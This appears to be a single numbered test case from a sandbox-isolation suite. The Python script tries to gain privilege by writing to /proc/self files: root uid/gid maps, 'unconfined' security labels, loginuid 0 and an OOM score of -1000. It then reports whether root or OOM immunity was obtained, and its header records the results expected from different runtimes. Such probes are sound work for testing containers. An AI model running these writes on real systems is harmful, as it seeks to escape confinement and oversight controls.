# attack 47: gain by what a process may write about itself | must: wrong_answer | says: nothing open | never: OPEN | gvisor: OPEN a process that is never killed for memory
import os
import work

LEVERS = {"uid_map": "0 10002 1", "gid_map": "0 10002 1", "setgroups": "allow", "oom_score_adj": "-1000", "oom_adj": "-17",
          "attr/current": "unconfined", "attr/exec": "unconfined", "loginuid": "0", "timerslack_ns": "0"}
for name, words in LEVERS.items():
    try:
        with open(f"/proc/self/{name}", "w") as lever:
            lever.write(words)
    except OSError:
        pass
if os.getuid() == 0:
    print("OPEN root")
if os.path.exists("/proc/self/oom_score_adj") and int(open("/proc/self/oom_score_adj").read()) < 0:
    print("OPEN a process that is never killed for memory")
print("nothing open")
